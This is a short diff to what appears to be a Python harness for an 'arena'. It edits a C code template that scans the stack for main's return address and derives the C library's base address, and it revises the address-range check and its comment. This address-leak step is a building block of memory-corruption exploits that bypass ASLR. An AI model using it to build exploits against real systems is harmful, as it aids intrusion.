@@ -11,7 +11,7 @@ from arena import HERE
 HEAD = """extern int __VERIFIER_nondet_int(void);
 extern void reach_error(void);
 """
-# The return address of main leads into the C library.
+# The return address of main leads into the C library, which lies in the last two terabytes of what a process has.
 FIND = """long *where;
 long libc;
 int find(void) {
@@ -19,7 +19,7 @@ int find(void) {
   where = &here;
   for (int i = 0; i < 600; i++) {
     long v = where[i];
-    if (v >> 40 == 127 && (v & 4095) == ${back} % 4096) { libc = v - ${back}; return 1; }
+    if (v >> 41 == 63 && (v & 4095) == ${back} % 4096) { libc = v - ${back}; return 1; }
   }
   return 0;
 }
